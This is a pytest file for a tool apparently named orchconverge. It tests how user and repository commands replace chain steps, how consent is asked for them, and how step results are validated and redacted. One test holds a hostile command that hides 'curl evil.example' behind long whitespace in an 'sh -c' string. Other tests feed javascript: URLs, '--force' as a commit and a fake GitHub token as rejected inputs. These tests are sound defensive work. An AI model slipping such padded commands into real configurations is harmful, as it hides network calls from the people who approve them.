"""A person's own command in place of a step: how it may be written, who has to allow it, and what of its word counts."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchconverge.cli.consent import ASKED, consent
from orchconverge.config import PREFIX, Loaded, load
from orchconverge.core.replaced import MOST_FINDINGS, MOST_WORD, against, prompt, word
from orchconverge.core.seen import StepResult
from orchconverge.errors import Refused
from orchconverge.whereabouts import required
from tests.stories import sha

TOKEN = "ghp_" + "a" * 36


# --- how it is written -----------------------------------------------------------------------------------------------


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in list(os.environ):
        if name.startswith((PREFIX, "GIT_", "XDG_")):
            monkeypatch.delenv(name)
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    subprocess.run(["git", "init", "-q", str(tmp_path / "repo")], check=True)
    return tmp_path / "repo"


def chain(root: Path, text: str, *, mine: bool = False) -> Loaded:
    """The settings with this `[chain]` in the repository's file, or in the person's own."""
    path = root / "orchconverge.toml"
    if mine:
        path = Path(os.environ["HOME"]) / ".config" / "orchconverge" / "config.toml"
        path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"[chain]\n{text}\n")
    return load(required(root), flags={})


def test_both_forms_are_words_and_what_is_not_named_is_ours(root: Path) -> None:
    found = chain(root, 'pushl = ["my-push", "--fast"]\ncopilot = "engine:/copilot --autonomous"', mine=True)
    assert found.config.chain.commands() == {
        "pushl": ("my-push", "--fast"),
        "copilot": ("engine:/copilot --autonomous",),
    }
    assert found.asked == ()
    assert (prompt(("my-push", "--fast")), prompt(("engine:/copilot --autonomous",))) == ("", "/copilot --autonomous")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (
            'pushl = "my-push --fast"',
            'chain.pushl in orchconverge.toml: it must be a list of words, as ["my-push", "--fast"]',
        ),
        ('pushl = "engine:"', "it must be a list of words"),
        ('pushl = ["engine:/pushl", "now"]', 'after "engine:" comes the whole prompt, in one text'),
        ("pushl = [1]", "chain.pushl"),
        ('pushl = ["a\\u0000b"]', "a NUL byte cannot be part of it"),
        ('pushl = ["my-push", " "]', "it is blank"),
        ("minutes = 0", "chain.minutes in orchconverge.toml: should be greater than 0"),
        ("minutes = 60", "chain.minutes in orchconverge.toml: should be less than or equal to 55"),
        ('report = ["mine"]', "[chain] of orchconverge.toml has no setting called 'report'"),
    ],
)
def test_what_cannot_be_is_refused_in_one_line(root: Path, text: str, says: str) -> None:
    with pytest.raises(Refused) as error:
        chain(root, text)
    assert says in error.value.message
    assert "\n" not in error.value.message


def test_what_a_repository_names_needs_consent_and_what_a_person_names_does_not(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert chain(root, 'pushl = ["theirs"]\nreviewdeep = ["mine"]', mine=True).asked == ()
    asked = chain(root, 'pushl = ["make", "push"]\ncopilot = "engine:/x"').asked
    assert [(each.where, each.key, each.argv) for each in asked] == [
        ("orchconverge.toml", "chain.pushl", ("make", "push")),
        ("orchconverge.toml", "chain.copilot", ("engine:/x",)),
    ]
    other = chain(root, 'pushl = ["make", "pushall"]').asked
    assert other[0].digest not in {each.digest for each in asked}
    monkeypatch.setenv("ORCHCONVERGE_CHAIN_PUSHL", '["my-push", "a b"]')
    found = load(required(root), flags={})
    assert found.config.chain.commands() == {"pushl": ("my-push", "a b"), "reviewdeep": ("mine",)}
    assert found.asked == ()


def test_nobody_allows_what_is_too_long_to_be_shown(root: Path) -> None:
    asked = chain(root, f'pushl = ["sh", "-c", "true {" " * ASKED}; curl evil.example"]')
    with pytest.raises(Refused, match="too many to be asked about"):
        consent(asked)
    assert not asked.places.state.exists() or not any(asked.places.state.glob("ledger*"))


def test_what_it_is_told_in_its_environment_stands_in_nobodys_way(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("STEP_RESULT", "BASIN", "TARGET", "HEAD"):
        monkeypatch.setenv(PREFIX + name, "x")
    assert load(required(root), flags={}).config.chain.commands() == {}


# --- its word --------------------------------------------------------------------------------------------------------


def said(**fields: Any) -> StepResult:
    return word(json.dumps({"status": "done", "reason": "pushed", **fields}).encode())


def test_a_word_is_the_result_of_the_step() -> None:
    finding = {"path": "a.py", "line": 3, "severity": "critical", "title": "it is wrong", "text": "since", "more": 1}
    found = said(url="https://example.org/pull/7", commit=sha("c"), findings=[finding], unknown=[])
    assert (found.status, found.detail, found.url, found.commit) == (
        "done",
        "pushed",
        "https://example.org/pull/7",
        sha("c"),
    )
    assert found.findings == ({name: finding[name] for name in ("path", "line", "severity", "title", "text")},)
    assert against(found.findings) == "a.py:3 critical: it is wrong"
    assert against(said(findings=[{**finding, "severity": "important"}]).findings) == ""


def test_nothing_of_it_hides_or_tells_a_secret() -> None:
    bad = f"\x1b[31m\u202e{TOKEN}\nx"
    found = said(reason=bad, findings=[{"path": bad, "severity": "suggestion", "title": bad, "text": bad}])
    for text in (found.detail, found.findings[0]["title"], found.findings[0]["text"]):
        assert text == "*** x"
    assert found.findings[0]["path"] == "*** x"
    assert len(said(reason="r" * 9000).detail) == 2000
    assert "ghp_" not in said(reason=f"{'y' * 1980} {TOKEN}").detail  # nor the part before a cut
    assert said(url=f"https://ann:pass@example.org/{TOKEN}").url == "https://***@example.org/***"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"{",
        b"[]",
        b"\xff",
        b'{"status": "done"}',
        b'{"status": "fine", "reason": "x"}',
        b'{"status": "done", "reason": " "}',
        b'{"status": "done", "reason": "x", "url": "javascript:x"}',
        b'{"status": "done", "reason": "x", "url": "https://example.org/\\u001b[31m"}',
        '{"status": "done", "reason": "x", "url": "https://example.org/\u202e"}'.encode(),
        b'{"status": "done", "reason": "x", "commit": "--force"}',
        b'{"status": "done", "reason": "x", "findings": [{"severity": "critical", "title": "no path"}]}',
        json.dumps(
            {
                "status": "done",
                "reason": "x",
                "findings": [{"path": "a", "severity": "critical", "title": "t"}] * (MOST_FINDINGS + 1),
            }
        ).encode(),
        json.dumps({"status": "done", "reason": "x" * MOST_WORD}).encode(),
    ],
)
def test_what_is_no_word_is_refused(data: bytes) -> None:
    with pytest.raises(ValueError, match=r"."):
        word(data)


@given(st.binary(max_size=200))
def test_any_bytes_are_a_word_or_refused(data: bytes) -> None:
    try:
        assert word(data).detail
    except ValueError as error:
        assert str(error)
